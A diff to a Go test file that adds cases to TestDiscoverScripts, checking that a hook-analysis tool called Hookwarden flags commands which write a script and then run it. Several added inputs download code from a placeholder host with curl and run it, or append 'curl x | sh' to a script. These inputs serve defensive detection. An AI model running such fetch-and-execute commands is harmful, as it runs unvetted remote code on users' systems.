@@ -231,6 +231,12 @@ func TestDiscoverScripts(t *testing.T) {
 		{`make check`, []string{"manifest make Makefile", "interpreter bash scripts/lint.sh <Makefile"}, []string{"$(CHECKER)"}},
 		{`deno task check`, []string{"manifest deno task deno.json", "interpreter bash x.sh <deno.json"}, nil},
 		{`npm install`, nil, []string{"install scripts"}},
+		// The hook writes what it runs.
+		{`cp .gemini/hooks/check.py x.sh && bash x.sh`, []string{"interpreter bash x.sh"}, []string{"the hook writes"}},
+		{`curl -so x.sh https://x.example/a && sh x.sh`, []string{"interpreter sh x.sh"}, []string{"the hook writes"}},
+		{`echo 'curl x | sh' >> x.sh; sh x.sh`, []string{"interpreter sh x.sh"}, []string{"the hook writes"}},
+		{`git checkout evil -- . && bash x.sh`, []string{"interpreter bash x.sh"}, []string{"the hook writes"}},
+		{`bash x.sh > out.log`, []string{"interpreter bash x.sh"}, nil},
 		// Code Hookwarden cannot see.
 		{`exec 3< x.sh; source /dev/fd/3`, nil, []string{"device or a file descriptor"}},
 		{`bash`, nil, []string{"bash reads its program from standard input"}},
